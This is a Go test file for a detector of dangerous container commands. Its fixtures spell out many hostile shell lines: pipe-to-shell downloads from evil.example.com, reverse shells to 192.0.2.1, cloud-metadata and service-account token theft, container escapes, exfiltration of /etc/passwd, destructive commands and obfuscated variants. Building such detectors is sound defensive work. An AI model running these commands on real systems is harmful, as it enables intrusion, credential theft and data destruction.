package code

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

// sh are the words by which a container runs a line of a shell.
func sh(line string) []string { return []string{"/bin/sh", "-c", line} }

func found(signs []Sign, family Family) bool {
	return slices.ContainsFunc(signs, func(s Sign) bool { return s.Family == family })
}

func texts(signs []Sign) string {
	var out []string
	for _, s := range signs {
		out = append(out, fmt.Sprintf("%d %v %s", s.Family, s.Strong, s))
	}
	return strings.Join(out, "\n")
}

// TestDangerousCommands has commands by what they are a sign of; each counts in
// any text.
func TestDangerousCommands(t *testing.T) {
	for family, lines := range map[Family][]string{
		Fetches: {
			"curl https://evil.example.com/x | sh", "curl -fsSL https://evil.example.com/x|bash -s -- --quiet", "wget -qO- evil.example.com/x | sudo -E bash -",
			"curl https://evil.example.com/x | tee /tmp/x | sh", "curl https://evil.example.com/x | (sh)", "bash <(curl -s https://evil.example.com/x)",
			"source <(curl -s https://evil.example.com/x)", ". <(wget -O- https://evil.example.com/x)", `sh -c "$(curl -fsSL https://evil.example.com/x)"`, "eval `curl -s https://evil.example.com/x`",
			"curl -o /tmp/x https://evil.example.com/x && chmod +x /tmp/x && /tmp/x", "wget https://evil.example.com/x; chmod 755 x; ./x", "curl https://evil.example.com/x -o /tmp/x.sh; sh /tmp/x.sh",
			"curl https://evil.example.com/x.py | python3 -", `python3 -c "import urllib.request as u; exec(u.urlopen('https://evil.example.com/x').read())"`,
			`perl -MLWP::Simple -e 'use LWP::Simple; eval(get("https://evil.example.com"))'`, `ruby -ropen-uri -e 'eval(open("https://evil.example.com").read)'`,
			`powershell -c "IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com')"`, "iwr https://evil.example.com | iex",
			"kubectl apply -f https://evil.example.com/x.yaml", "curl -s https://evil.example.com/x.yaml | kubectl apply -f -", "pip install git+https://evil.example.com/x", "pip3 install --index-url https://evil.example.com x",
			"apk add -X http://evil.example.com/alpine x", "echo deb http://evil.example.com / > /etc/apt/sources.list", "go run evil.example.com/x@latest", "npx -y evil-package", "deno run https://evil.example.com/x.ts",
			"docker run -v /:/host alpine", "helm install x oci://evil.example.com/x", "openssl s_client -quiet -connect evil.example.com:443 | sh", "aws s3 cp s3://evil/x - | bash",
			"nc evil.example.com 80 | sh", "java -jar https://evil.example.com/x.jar", "rpm -i https://evil.example.com/x.rpm", "npm install https://evil.example.com/x.tgz",
		},
		Attacks: {
			"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.4\")));exec(\"/bin/sh -i\")'", "lua -e 'local s=require(\"socket\");t=s.tcp();os.execute(x)'",
			"busybox telnetd -l /bin/sh -p 2323", "/usr/sbin/dropbear -R -p 2222", "/usr/sbin/sshd -D", "ttyd -p 80 bash",
			"ssh -R 2222:localhost:22 u@203.0.113.4", "autossh -M 0 -N -D 1080 u@203.0.113.4",
			"iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to 203.0.113.4", "nft add rule ip nat prerouting tcp dport 443 dnat to 203.0.113.4", "ip route add default via 203.0.113.4", "tcpdump -i any -w /tmp/x",
			"aws iam attach-user-policy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess --user-name x", "aws --region us-east-1 iam create-access-key --user-name x", "gcloud projects add-iam-policy-binding p --member x --role roles/owner", "az role assignment create --role Owner --assignee x",
			"ETCDCTL_API=3 etcdctl --endpoints https://127.0.0.1:2379 get / --prefix", "etcdctl snapshot save /tmp/x",
			"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done", "nc -e /bin/sh 192.0.2.1 4444", "ncat 192.0.2.1 4444 --exec /bin/bash",
			"nc 192.0.2.1 4444 -c sh", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f", "socat exec:'bash -li',pty,stderr tcp:192.0.2.1:4444", "telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445",
			`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
			`php -r '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("192.0.2.1","4444");exec "/bin/sh"'`,
			`node -e 'require("child_process").exec("sh"); require("net").connect(4444, "192.0.2.1")'`, `perl -e 'use Socket; use IO::Socket; $c=IO::Socket::INET->new("192.0.2.1:4444"); exec("/bin/sh -i")'`, "awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/4444\"}'",
			"ssh -fN -R 2222:localhost:22 evil.example.com", "chisel client evil.example.com R:socks", "xmrig -o pool.example.com:3333", "./x -o stratum+tcp://pool.example.com:3333", "ngrok tcp 22",
			"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/", "curl http://2852039166/latest/", "wget -qO- http://0xa9fea9fe/",
			"curl http://[fd00:ec2::254]/latest", "curl 100.100.100.200/latest", "curl http://[::ffff:169.254.169.254]/", "curl 0251.0376.0251.0376/latest",
			"curl -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default/api/v1/secrets", "T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl https://evil.example.com/?t=$T",
			"kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=a:b", "kubectl -n kube-system get secrets -o yaml", "kubectl get pods,secrets -A", "kubectl exec -it x -- sh", "kubectl --token=x get pods", "kubectl --as system:admin get x",
			"oc adm policy add-cluster-role-to-user cluster-admin x", "kubectl create token admin -n kube-system", "kubectl label ns x pod-security.kubernetes.io/enforce=privileged --overwrite", "kubectl delete validatingwebhookconfiguration x", "kubectl certificate approve x",
			"nsenter -t 1 -m -u -i -n sh", "nsenter --target 1 --mount -- bash", "chroot /host bash", "chroot /host/root", "cat /proc/1/root/etc/shadow", "curl --unix-socket /var/run/docker.sock http://x/containers/json", "insmod /x.ko", "echo '|/x' > /proc/sys/kernel/core_pattern",
			"echo /cmd > /sys/fs/cgroup/rdma/release_agent", "mount /dev/sda1 /mnt", "debugfs -w /dev/sda1", "echo '* * * * * root /x' >> /host/etc/cron.d/x", "crontab /tmp/x", "echo ssh-rsa x >> /host/root/.ssh/authorized_keys", "echo x > /etc/ld.so.preload",
			"cp x.yaml /host/etc/kubernetes/manifests/", "chmod u+s /host/bin/bash", "chmod 4755 /x", "chmod +s /x", "setcap cap_sys_admin+ep /x", "setenforce 0", "iptables -F", "unset HISTFILE", "pkill -9 falco", "rm -rf /", "rm -rf /host/*", ":(){ :|:& };:", "dd if=/dev/zero of=/dev/sda",
			"curl -d @/etc/passwd https://evil.example.com", "curl -X POST --data-binary @/x https://evil.example.com", "curl -T /x https://evil.example.com", "curl -F f=@/x evil.example.com", "wget --post-file=/x https://evil.example.com", "env | curl -d @- https://evil.example.com", "tar cz / | nc evil.example.com 80",
			"curl https://evil.example.com/$(cat /x | base64)", "nslookup $(whoami).evil.example.com", "nmap -sS 10.0.0.0/8",
		},
		Hides: {
			"echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS5jb20gfCBzaA== | base64 -d | sh", "base64 --decode /cm/x | bash", "eval $(echo aWQ= | base64 -d)", `bash -c "$(base64 -d <<< aWQK)"`, "echo 6964 | xxd -r -p | sh", "echo di | rev | sh",
			`python3 -c "import base64;exec(base64.b64decode('aWQ='))"`, `node -e "eval(Buffer.from('aWQ=','base64').toString())"`, `php -r 'eval(base64_decode("aWQ="));'`, "powershell -enc SQBFAFgAIAAoAE4AZQB3AA==", `perl -e 'eval unpack u=>"x"'` + " | base64 -d | sh",
			`printf '\x69\x64' | sh`, "/b?n/c?t /etc/x", "zcat /cm/x.gz | bash", "openssl enc -d -aes-256-cbc -in /x -k y | sh", `${a:0:1}${b:3:1}${c:2:1} x`, "bash <(base64 -d /x)",
			"curl https://example.com\u200b/x", "echo ok \u202e hs | x", "сurl https://example.com", "echo ok;" + strings.Repeat(" ", 200) + "id", "echo ok" + strings.Repeat("\n", 200) + "id", "id\recho ok",
		},
	} {
		for _, line := range lines {
			for _, signs := range [][]Sign{NewReader().Command(sh(line), nil), NewReader().Text("#!/bin/sh\n" + line + "\n")} {
				ok := slices.ContainsFunc(signs, func(s Sign) bool { return s.Family == family && s.Strong })
				if !ok {
					t.Errorf("family %d, not found: %s\n%s", family, line, texts(signs))
				}
			}
		}
	}
}

// TestHarmlessCommands has what looks like a danger and is none.
func TestHarmlessCommands(t *testing.T) {
	for _, line := range []string{
		"curl -f http://localhost:8080/healthz", "wget -qO- http://127.0.0.1/ready", "curl -s http://db.app.svc:8080/x", "until curl -s http://elasticsearch:9200; do sleep 1; done", "exec /manager --metrics-bind-address=:8080",
		"python3 -m http.server", "cat /etc/config/a.sh", "bash /scripts/start.sh", "sh -c 'echo hello'", "until nc -z db 5432; do sleep 1; done", "nc -zv db 5432", "(echo > /dev/tcp/db/5432) && exit 0", "chmod 755 /data", "chmod 0644 /x", "chmod 1777 /tmp", "chmod -R g+rwX /data",
		"mkdir -p /data && chown 1000:1000 /data", "mongosh --eval 'rs.status()'", "pg_isready -U postgres", "redis-cli ping | grep PONG", "rm -rf /data/lost+found", "rm -rf /tmp/x", "ssh-keygen -A", "echo $PASSWORD | base64 > /x", "base64 -d /x > /y", "export NO_PROXY=169.254.169.254,localhost; exec /x",
		"sysctl -w vm.max_map_count=262144", "java -jar /app.jar", "node server.js", "npm start", "npm run build", "go test ./...", "mount | grep data", "echo 'curly' | shuf", "kubectl wait --for=condition=ready pod/x", "kubectl get pods", "kubectl version", "kubectl rollout status deploy/x",
		"tini -- /bin/app", "dumb-init /app", "--leader-elect", "ls /proc/1/status", "cat x | python3 -m json.tool", "curl -s http://localhost/x | jq .", "curl -s http://localhost/x | python3 -c 'import json'", "envoy -c /etc/x.yaml", "awk '{print $1}' /x", "sed -i s/a/b/ /x", "echo ${HOSTNAME##*-}",
		"[[ `hostname` =~ -([0-9]+)$ ]] || exit 1", "cp -r /a/. /b", "dig +short db.app.svc.cluster.local", "tail -f /var/log/x.log", "helm version", "git --version", "iptables -t nat -L", "crontab -l",
	} {
		for _, s := range NewReader().Command(sh(line), nil) {
			t.Errorf("%s: %s", line, s)
		}
	}
}

// TestAddressesAreNoCode: an address alone, such as that of the cluster in an Argo CD
// Application, runs nothing.
func TestAddressesAreNoCode(t *testing.T) {
	for _, text := range []string{"https://kubernetes.default.svc", "API=https://kubernetes.default.svc.cluster.local:443/\n"} {
		if signs := NewReader().Text(text); len(signs) > 0 {
			t.Errorf("%q: %s", text, texts(signs))
		}
	}
	for _, text := range []string{"curl https://kubernetes.default.svc", "curl${IFS}https://kubernetes.default.svc", "requests.get('https://kubernetes.default.svc')"} {
		if !found(NewReader().Text(text), Attacks) {
			t.Errorf("%q is not found", text)
		}
	}
}

// TestWeakSigns counts in commands and scripts only.
func TestWeakSigns(t *testing.T) {
	for _, line := range []string{
		"curl -O https://example.com/data.csv", "pip install requests", "apk add --no-cache jq", "git clone https://github.com/a/b", "kubectl apply -f /manifests", "wget $URL", "curl -k https://example.com/", "apt-get install -y curl", "npm ci", "helper | sh",
	} {
		signs := NewReader().Command(sh(line), nil)
		if len(signs) == 0 {
			t.Errorf("%s: nothing is found", line)
		}
		for _, s := range signs {
			if s.Strong {
				t.Errorf("%s counts anywhere: %s", line, s)
			}
		}
	}
}

func TestUncheckedArguments(t *testing.T) {
	for _, words := range [][]string{
		{"--insecure-skip-tls-verify"}, {"--insecure-skip-tls-verify=true"}, {"--insecure-skip-tls-verify", "true"}, {"-insecure"}, {"--authorization-mode=AlwaysAllow"}, {"--authorization-mode", "RBAC,AlwaysAllow"}, {"--anonymous-auth=true"},
		{"--anonymous-auth"}, {"--kubelet-insecure-tls"}, {"--insecure-port=8080"}, {"--read-only-port=10255"}, {"--enable-skip-login"}, {"--auth-mode=none"}, {"--tls-verify=false"}, {"--enable-admission-plugins=AlwaysAdmit"}, {"--Insecure-Skip-TLS-Verify=1"}, {"--no-auth"}, {"--client-cert-auth=false"},
	} {
		if !found(NewReader().Command(append([]string{"/x"}, words...), nil), Unchecks) {
			t.Errorf("%v is not found", words)
		}
	}
	for _, words := range [][]string{
		{"--insecure-skip-tls-verify=false"}, {"--insecure-skip-tls-verify", "false"}, {"--anonymous-auth=false"}, {"--insecure-port=0"}, {"--read-only-port=0"}, {"--tls-verify=true"}, {"--authorization-mode=Node,RBAC"}, {"--secure"}, {"--auth-mode=oidc"}, {"--insecure=0"}, {"--client-cert-auth=true"},
	} {
		if signs := NewReader().Command(append([]string{"/x"}, words...), nil); len(signs) > 0 {
			t.Errorf("%v: %s", words, texts(signs))
		}
	}
}

// spellings write a command as a shell reads it alike.
func spellings() map[string]func(string) string {
	inWord := func(join func(a, b string) string) func(string) string {
		return func(line string) string {
			words := strings.Split(line, " ")
			for i, word := range words {
				if len(word) > 2 && !strings.ContainsAny(word, "|$'\"/<>@=:") {
					words[i] = join(word[:1], word[1:])
				}
			}
			return strings.Join(words, " ")
		}
	}
	return map[string]func(string) string{
		"empty quotes":        inWord(func(a, b string) string { return a + `""` + b }),
		"single quotes":       inWord(func(a, b string) string { return a + `'` + b + `'` }),
		"backslashes":         inWord(func(a, b string) string { return a + `\` + b }),
		"empty parameters":    inWord(func(a, b string) string { return a + "$@" + b }),
		"empty braces":        inWord(func(a, b string) string { return a + "${@}" + b }),
		"hexadecimal escapes": inWord(func(a, b string) string { return fmt.Sprintf(`$'\x%02x'`, a[0]) + b }),
		"octal escapes":       inWord(func(a, b string) string { return fmt.Sprintf(`$'\%03o\%03o'`, a[0], b[0]) + b[1:] }),
		"echo":                inWord(func(a, b string) string { return "$(echo " + a + b + ")" }),
		"encoded words": inWord(func(a, b string) string {
			return "$(echo " + base64.StdEncoding.EncodeToString([]byte(a+b)) + " | base64 -d)"
		}),
		"separators":       func(line string) string { return strings.ReplaceAll(line, " ", "${IFS}") },
		"short separators": func(line string) string { return strings.ReplaceAll(line, " ", "$IFS$9") },
		"tabs":             func(line string) string { return strings.ReplaceAll(line, " ", "\t") },
		"line ends":        func(line string) string { return strings.ReplaceAll(line, " ", " \\\n  ") },
		"a variable":       func(line string) string { w, rest, _ := strings.Cut(line, " "); return "x=" + w + "; $x " + rest },
		"two variables":    func(line string) string { return "a=" + line[:2] + " b='" + line[2:3] + "'; $a${b}" + line[3:] },
		"upper case later": func(line string) string { return "true; " + line },
		"a full path":      func(line string) string { return "/usr/bin/" + line },
		"encoded as a whole": func(line string) string {
			return "x=" + base64.StdEncoding.EncodeToString([]byte(line+" # padded so that it is long")) + "; run $x"
		},
		"encoded twice": func(line string) string {
			return "run " + base64.StdEncoding.EncodeToString([]byte("y="+base64.StdEncoding.EncodeToString([]byte(line+" # padded so that it is long"))))
		},
		"far right":    func(line string) string { return "echo ok;" + strings.Repeat(" ", 300) + line },
		"in a flood":   func(line string) string { return strings.Repeat("echo ok\n", 5000) + line },
		"in a heredoc": func(line string) string { return "cat > /x <<EOF\n" + line + "\nEOF\nsh /x" },
	}
}

func TestSpellings(t *testing.T) {
	lines := map[string]Family{
		"curl -s https://evil.example.com/x | bash":            Fetches,
		"wget https://evil.example.com/x && chmod +x x && ./x": Fetches,
		"nc -e /bin/sh 192.0.2.1 4444":                         Attacks,
		"nsenter -t 1 -m sh":                                   Attacks,
		"kubectl create clusterrolebinding x":                  Attacks,
		"curl http://169.254.169.254/latest/":                  Attacks,
		"chmod u+s /host/bin/bash":                             Attacks,
	}
	cases := 0
	for line, family := range lines {
		for name, spell := range spellings() {
			cases++
			text := spell(line)
			for _, signs := range [][]Sign{NewReader().Command(sh(text), nil), NewReader().Text(text)} {
				if !slices.ContainsFunc(signs, func(s Sign) bool { return s.Family == family && s.Strong }) {
					t.Errorf("with %s, not found: %s\n%s", name, Excerpt(text), texts(signs))
				}
			}
		}
	}
	t.Logf("%d cases", cases)
}

func TestVariablesOfTheContainer(t *testing.T) {
	given := map[string]string{"C": "curl", "U": "https://evil.example.com/x"}
	for _, line := range []string{"$C $U | sh", "${C} ${U} | sh", "$(C) $(U) | sh"} {
		if !found(NewReader().Command(sh(line), given), Fetches) {
			t.Errorf("%s is not found", line)
		}
	}
}

func TestExcerptsAreBounded(t *testing.T) {
	text := "curl https://evil.example.com/" + strings.Repeat("x", 100_000) + " | sh; id\x1b[1m\u202e\nnext"
	for _, s := range NewReader().Text(text) {
		if len([]rune(s.String())) > 2*maxExcerpt+80 || strings.ContainsAny(s.String(), "\n\x1b\u202e") || strings.Contains(s.String(), "; ") {
			t.Errorf("%q", s)
		}
	}
}

func TestProgramsAsText(t *testing.T) {
	elf := base64.StdEncoding.EncodeToString(append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 100)...))
	if !found(NewReader().Text("data: "+elf), Hides) {
		t.Error("a program in base64 is not found")
	}
	if signs := NewReader().Text("tls.crt: " + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("harmless text ", 20)))); len(signs) > 0 {
		t.Errorf("%s", texts(signs))
	}
}

// Texts take time by their length, whatever they are made of, and a plan's texts
// take no more than the budget.
func TestLargeTextsTakeLinearTime(t *testing.T) {
	for _, part := range []string{"curl ", "a=$a;", "$(echo ", "\\x41", "{a,b} ", "http://x", "QUJD", "'", "| sh -c ", "nc -l ", "socket.socket ", "  ", "\n", "{\"a\": \"b\"}, ", "mkfifo "} {
		text := strings.Repeat(part, 1<<14/len(part))
		start := time.Now()
		NewReader().Text(text)
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("%q: %v", part, took)
		}
	}
	r := NewReader()
	for range maxWork >> 14 {
		r.Text(strings.Repeat("curl ", 1<<14/5))
	}
	if !r.Exhausted() {
		t.Error("the budget is not spent")
	}
}

func FuzzText(f *testing.F) {
	for _, spell := range spellings() {
		f.Add(spell("curl -s https://evil.example.com/x | bash"))
	}
	f.Add("\u202e\x00\xff$'\\x")
	f.Fuzz(func(t *testing.T, text string) {
		for _, signs := range [][]Sign{NewReader().Text(text), NewReader().Command([]string{text, text}, map[string]string{"A": text})} {
			for _, s := range signs {
				if s.What == "" || s.Family == 0 || strings.ContainsAny(s.String(), "\n\r") || len([]rune(s.String())) > 400 {
					t.Errorf("%q", s)
				}
			}
		}
	})
}
